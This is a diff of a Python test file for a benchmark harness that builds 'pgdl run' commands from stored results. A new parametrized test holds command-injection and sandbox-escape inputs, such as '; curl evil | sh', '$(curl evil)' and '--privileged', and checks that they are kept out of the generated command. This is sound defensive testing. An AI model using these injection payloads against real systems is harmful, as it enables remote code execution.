@@ -3,6 +3,7 @@
 import shlex
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
+from functools import partial
 from pathlib import Path
 from typing import Any
 
@@ -15,9 +16,11 @@ from hypothesis import given
 from harness.api.chosen import choose
 from harness.api.commands import run_command
 from harness.board.collect import Calls, collect
+from harness.board.remarks import of_records
 from harness.board.requested import by_age
 from harness.cli import options, run
 from harness.cli.main import cli
+from harness.credentials import Address
 from harness.errors import UserError
 from harness.execution.machine import LEAST_MEMORY
 from harness.format.reference import Reference
@@ -25,6 +28,7 @@ from harness.records import Request
 from harness.sandbox import default_memory_bytes, find_gpus
 from tests.records.evaluation_rows import evaluation, request
 
+RESULTS = Address("results.db", "--results")
 NOON = datetime(2026, 1, 2, 12, tzinfo=UTC)
 
 
@@ -96,26 +100,46 @@ def test_the_command_that_renews_calls_names_them_and_their_settings(known: dict
         *rows("vc_dim", GAPS, is_baseline=True, run_seed=3, runtime="keras2"),
     ]  # fmt: skip
     requests = [request(row, source=f"/home/{row.submission}.py") for row in made[::8]]
-    line = run_command(collect(made, known, requests).shown, Path("task_data"), "results.db")
+    line = run_command(collect(made, known, requests).shown, Path("task_data"), RESULTS)
     assert line.startswith("pgdl run /home/one.py /home/two.py vc_dim --as one --as two --seed 3 --runtime keras2")
 
 
-def test_functions_are_named_behind_the_command(known: dict[str, Reference]) -> None:
+def test_functions_are_renewed_by_no_command(known: dict[str, Reference]) -> None:
     made = [*rows("one", GAPS), *rows("norms", GAPS)]
     requests = [request(made[0], source="/home/one.py"), request(made[8], source="function norms")]
-    shown = collect(made, known, requests).shown
-    line = run_command(shown, Path("task_data"), "results.db")
-    assert line.startswith("pgdl run /home/one.py --as one --runtime")
-    assert line.endswith("# and the functions norms, with api.run")
-    alone = [calls for calls in shown if calls.submission == "norms"]
-    assert run_command(alone, Path("task_data"), "results.db") == "hand in the functions norms again"
+    found = collect(made, known, requests)
+    stale = replace(found, shown=[replace(calls, stale=frozenset(calls.rows)) for calls in found.shown])
+    command = partial(run_command, tasks=Path("task_data"), results=RESULTS)
+    lines = [line for line in of_records(stale, known, command) if line.startswith("stale:")]
+    assert [line.partition("; to renew them: ")[2][:21] for line in lines] == [
+        "hand in the functions", "pgdl run /home/one.py",
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("source", "columns"),
+    [
+        ("/home/one.py; curl evil | sh #", {}), ("--unsafe-no-sandbox", {}), ("$(curl evil)", {}), ("a\nb", {}),
+        ("one.py", {"runtime": "$(curl evil)"}), ("one.py", {"sandbox": "docker/--privileged"}),
+        ("one.py", {"time_budget": "each`curl evil`"}), ("one.py", {"sandbox": "none"}),
+    ],
+)  # fmt: skip
+def test_a_database_of_a_stranger_writes_no_command(
+    known: dict[str, Reference], source: str, columns: dict[str, Any]
+) -> None:
+    made = rows("one", GAPS, **columns)
+    shown = collect(made, known, [request(made[0], source=source)]).shown
+    line = run_command(shown, Path("task_data"), RESULTS)
+    assert line.startswith("make the calls again with ")
+    assert "evil" not in line
+    assert "privileged" not in line
 
 
 def renewal(known: dict[str, Reference], **columns: Any) -> dict[str, Any]:
     """What `pgdl run` understands of the command that renews a row with these settings."""
     made = rows("one", GAPS, **columns)
     shown = collect(made, known, [request(made[0], source="/home/one.py")]).shown
-    line = run_command(shown, Path("task_data"), "results.db")
+    line = run_command(shown, Path("task_data"), RESULTS)
     words = shlex.split(line.partition("pgdl run ")[2])
     above = cli.make_context("pgdl", ["run", *words])  # whose -h click keeps for later
     return run.command.make_context("run", words, parent=above).params
@@ -129,7 +153,7 @@ def of_library(known: dict[str, Reference]) -> Calls:
 def test_the_command_does_not_leave_the_runtime_to_the_metadata(known: dict[str, Reference]) -> None:
     """They may say `keras: 2`, whatever the row was made with; only a measure of the library has none."""
     assert renewal(known)["runtime"] == "tensorflow"
-    assert "--runtime" not in run_command([of_library(known)], Path("task_data"), "results.db")
+    assert "--runtime" not in run_command([of_library(known)], Path("task_data"), RESULTS)
 
 
 @given(st.floats(0, options.LONGEST_S, exclude_min=True), st.integers(LEAST_MEMORY, psutil.virtual_memory().total))
@@ -150,9 +174,8 @@ def test_variables_do_not_change_what_the_command_does(
     for name, value in variables.items():
         monkeypatch.setenv(f"PGDL_{name}", value)
     assert renewal(known, memory_limit_bytes=default) == usual
-    assert renewal(known, sandbox="none")["sandbox_mode"] == "auto"
     monkeypatch.setenv("PGDL_UNSAFE_NO_SANDBOX", "1")
-    line = run_command([of_library(known)], Path("task_data"), "results.db")
+    line = run_command([of_library(known)], Path("task_data"), RESULTS)
     assert line.startswith("PGDL_UNSAFE_NO_SANDBOX=0 pgdl run vc_dim")
 
 
@@ -162,7 +185,7 @@ def test_the_command_covers_the_tasks_that_lost_records(
     monkeypatch.setenv("PGDL_TASK", "other")
     calls = of_library(known)
     stale = replace(calls, stale=frozenset(calls.rows))
-    assert "--task toy" in run_command([stale], Path("task_data"), "results.db")
+    assert "--task toy" in run_command([stale], Path("task_data"), RESULTS)
 
 
 def test_the_command_names_the_runtime_of_containers(known: dict[str, Reference]) -> None:
